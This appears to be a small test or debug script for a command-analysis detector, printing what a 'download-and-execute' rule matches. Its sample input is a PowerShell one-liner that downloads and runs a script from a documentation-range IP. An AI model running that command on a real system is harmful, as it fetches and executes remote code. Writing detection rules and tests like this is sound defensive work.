import { TEXT_RULES } from '../src/domain/command-analysis/text-rules';
const t = `IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.71/a')`;
TEXT_RULES.filter(r => r.id === 'download-and-execute').forEach(r => console.log(r.pattern.exec(t)?.[0], r.shells));
